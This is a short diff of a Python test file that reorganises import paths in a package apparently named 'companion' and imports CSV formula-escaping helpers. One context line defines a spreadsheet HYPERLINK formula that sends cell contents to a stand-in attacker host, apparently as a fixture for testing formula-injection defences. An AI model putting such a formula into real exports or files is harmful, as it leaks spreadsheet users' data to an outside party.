@@ -17,9 +17,9 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from companion.cli import main
-from companion.export import csv_line
-from companion.store import Store
+from companion.cli.main import main
+from companion.review.export import csv_line
+from companion.store.store import Store
 from sensors.beatscsv import FORMULA_STARTS, cell_text, text_cell
 
 HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")'
